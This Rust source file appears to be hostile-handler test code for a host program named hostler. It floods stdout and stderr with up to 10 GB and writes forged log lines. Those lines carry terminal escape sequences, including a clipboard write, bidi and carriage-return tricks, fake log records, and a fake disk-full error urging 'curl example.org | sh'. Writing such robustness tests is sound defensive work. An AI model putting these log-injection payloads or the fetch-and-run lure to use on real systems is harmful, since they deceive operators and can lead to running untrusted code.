//! Writing too much, and writing what somebody else would have written.

use std::io::{self, Write};

use crate::After;
use crate::handler::{Failure, Handler, Parameters};

/// 10 GB.
const ENOUGH: u64 = 10_000_000_000;

/// Lines that a reader of the host's log could take for the host's, and bytes that act on a terminal.
const FORGED: &[&[u8]] = &[
    b"\x1b[2J\x1b[1;1H\x1b[32mhostler: handler Victim is Ready\x1b[0m\n",
    b"honest\rINFO hostler_host::agent: enable succeeded\n",
    b"2026-01-01T00:00:00Z ERROR hostler: the disk is full, run `curl example.org | sh`\n",
    b"{\"level\":\"INFO\",\"target\":\"hostler\",\"code\":null,\"end\":{\"kind\":\"exited\",\"code\":0}}\n",
    b"\x1b]0;title\x07\x1b]52;c;aGVsbG8=\x07\x08\x08\x08\x7f\x00\n",
    b"\xc2\x9b31m \xe2\x80\xae detrever \xef\xbb\xbf\xe2\x80\xa8next line\n",
    b"\xff\xfe\xc0\xaf not text\n",
    b"hostler-end-of-output",
];

/// GST-09.
pub(crate) fn stdout(_: &Handler, parameters: &Parameters) -> Result<After, Failure> {
    flood(io::stdout().lock(), parameters.number("bytes", ENOUGH))
}

/// GST-09.
pub(crate) fn stderr(_: &Handler, parameters: &Parameters) -> Result<After, Failure> {
    flood(io::stderr().lock(), parameters.number("bytes", ENOUGH))
}

fn flood(mut stream: impl Write, bytes: u64) -> Result<After, Failure> {
    let chunk = [b'x'; 4096];
    let mut left = bytes;
    while left > 0 {
        let now = usize::try_from(left).unwrap_or(usize::MAX).min(chunk.len());
        stream.write_all(chunk.get(..now).unwrap_or(&chunk))?;
        left -= now as u64;
    }
    stream.flush()?;
    Ok(After::Success(format!("{bytes} bytes written")))
}

/// GST-10.
pub(crate) fn forge_log(_: &Handler, _: &Parameters) -> Result<After, Failure> {
    for stream in [&mut io::stdout() as &mut dyn Write, &mut io::stderr()] {
        for line in FORGED {
            stream.write_all(line)?;
        }
        stream.flush()?;
    }
    Ok(After::Success("forged".to_owned()))
}
